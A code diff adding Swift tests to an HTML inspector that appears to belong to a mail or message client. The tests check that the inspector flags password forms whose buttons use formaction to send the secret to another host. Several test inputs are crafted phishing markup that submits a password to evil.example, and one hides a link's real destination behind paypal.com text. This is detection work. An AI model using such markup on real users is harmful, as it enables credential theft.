@@ -208,6 +208,47 @@ import Testing
         #expect(forms.map(\.fields.first) == ["pw (password)", "pw (password)", "pw (password)", nil])
     }
 
+    /// Whatever the order, and however the button is written.
+    @Test(arguments: [
+        "<form action=http://a.example/><button formaction=http://evil.example/>x</button><input name=pw type=password></form>",
+        "<form action=http://a.example/><input name=pw type=password><button type=x formaction=http://evil.example/></form>",
+        "<form action=http://a.example/><input name=pw type=password><button type='' formaction=http://evil.example/></form>",
+        "<form id=f action=http://a.example/><input name=pw type=password></form><button form=f formaction=http://evil.example/>",
+        "<button form=f formaction=http://evil.example/></button><form id=f action=http://a.example/><input name=pw type=password></form>",
+        "<!--[if mso]><form id=f></form><![endif]--><form id=f><input name=pw></form><button form=f formaction=http://evil.example/>",
+        "<form><input name=pw><button form=none formaction=http://evil.example/></form>",
+    ])
+    func buttonsShowTheSecret(html: String) {
+        let forms = Content.inspect(html: Array(html.utf8), baseURL: nil).forms.filter { $0.host == "evil.example" }
+        #expect(forms.count == 1 && forms.first?.fields.first?.hasPrefix("pw (") == true, "\(html)")
+    }
+
+    @Test func methodsOfButtons() {
+        let html = """
+            <form action=http://a.example/ method=post><button formaction=http://b.example/ formmethod=GET></button>
+            <button formaction=http://c.example/></button><button formaction=http://a.example/></button>
+            <button formaction=http://a.example/ formmethod=get></button><button formaction=http://c.example/></button></form>
+            """
+        let forms = Content.inspect(html: Array(html.utf8), baseURL: nil).forms
+        #expect(forms.map(\.method) == ["post", "get", "post", "get"])
+        #expect(forms.compactMap(\.host) == ["a.example", "b.example", "c.example", "a.example"])
+    }
+
+    /// Fields are not listed again and again for many buttons, but that a secret is asked for is.
+    @Test func buttonsAreBounded() {
+        let field = "<input name=\(String(repeating: "a", count: 100))>"
+        let fields = String(repeating: field, count: 99) + "<input name=pw type=password>"
+        let buttons = (0..<300).map { "<button formaction=http://evil.example/\($0)></button>" }.joined()
+        let content = Content.inspect(html: Array("<form action=http://a.example/>\(fields)\(buttons)</form>".utf8), baseURL: nil)
+        #expect(content.forms.count == 200 && content.forms.allSatisfy { $0.fields.last == "pw (password)" })
+        #expect(content.forms.reduce(0) { $0 + $1.fields.count } < 500)
+        #expect(content.limits.contains { $0.contains("forms") } && content.limits.contains { $0.contains("fields") })
+        // Of any number of the same there is one.
+        let same = String(repeating: "<button formaction=http://evil.example/></button>", count: 300)
+        let one = Content.inspect(html: Array("<form action=http://a.example/>\(fields)\(same)</form>".utf8), baseURL: nil)
+        #expect(one.forms.count == 2 && one.limits.isEmpty && one.forms.last?.fields.count == 100)
+    }
+
     /// A network path leads somewhere in a message as well, and must not hide where.
     @Test func networkPaths() {
         let html = "<a href='//evil.example/x'>https://paypal.com/</a><base href=//evil.example/><a href=y>paypal.com</a><img src=z>"
